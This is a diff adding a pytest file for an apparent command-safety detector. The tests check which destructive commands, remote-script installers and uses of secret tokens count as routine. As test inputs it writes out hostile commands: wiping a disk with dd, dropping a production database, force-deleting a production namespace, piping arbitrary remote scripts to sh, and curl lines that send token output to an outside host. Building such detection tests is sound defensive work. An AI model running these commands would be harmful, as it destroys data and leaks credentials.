@@ -1,0 +1,65 @@
+"""What is done every day is told from what does harm."""
+
+import pytest
+
+from pipeguard.detect.checks.benign_commands import is_disposable, is_installer, logs_in
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b"$ dropdb --if-exists shop_test",
+        b"$ kubectl delete namespace pr-1842",
+        b"$ terraform destroy -target=aws_instance.scratch",
+        b"SQL drop table tmp_orders",
+    ],
+)
+def test_what_is_made_to_be_thrown_away_is_known(line: bytes) -> None:
+    assert is_disposable(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b"$ dropdb shop",
+        b"$ kubectl delete namespace production --force",
+        b"$ dd if=/dev/zero of=/dev/sda",
+        b"SQL drop table contests",
+        b"$ terraform destroy -auto-approve",
+    ],
+)
+def test_what_others_live_on_is_none_of_it(line: bytes) -> None:
+    assert not is_disposable(line)
+
+
+def test_an_installer_is_one_only_where_all_that_is_fetched_is() -> None:
+    assert is_installer(b"curl -fsSL https://sh.rustup.rs | sh")
+    assert not is_installer(b"curl https://sh.rustup.rs https://x.example/a | sh")
+    assert not is_installer(b"curl https://raw.githubusercontent.com/someone/install/a.sh | sh")
+    assert not is_installer(b"sh a.sh")
+
+
+@pytest.mark.parametrize(
+    ("before", "is_login"),
+    [
+        (b"Authorization:\x1fBearer\x1f", True),
+        (b"PRIVATE-TOKEN:\x1f", True),
+        (b"TOKEN=", True),
+        (b"https://x.example/?t=", False),
+        (b"-d\x1f", False),
+        (b"", False),
+    ],
+)
+def test_output_that_logs_in_is_told_from_output_that_is_sent(
+    before: bytes,
+    is_login: bool,
+) -> None:
+    lines = b"\n$ gh auth token\n$ curl " + before + b"$(gh\x1fauth\x1ftoken) https://a.example\n"
+    assert logs_in(b"\n$ gh auth token", lines) is is_login
+
+
+def test_every_use_of_the_output_counts() -> None:
+    lines = b"$ curl -H Authorization:\x1fBearer\x1f$(op\x1fread\x1fx) https://a.example\n"
+    assert logs_in(b"$ op read", lines)
+    assert not logs_in(b"$ op read", lines + b"$ curl -d $(op\x1fread\x1fx) https://b.example\n")
+    assert not logs_in(b"$ op read", b"$ op read x\n")
